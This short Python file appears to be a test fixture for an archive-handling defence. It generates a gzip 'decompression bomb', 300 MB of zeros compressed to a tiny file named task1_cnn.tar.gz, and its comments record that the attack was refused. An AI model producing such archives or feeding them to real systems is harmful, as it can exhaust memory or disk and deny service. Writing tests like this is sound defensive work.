# attack: a tar of zeros without end
# outcome: refused
# stops: archives are read in memory
# says: beyond what is read
# made: task1_cnn.tar.gz
import gzip


def make():
    return gzip.compress(bytes(300_000_000), 9)
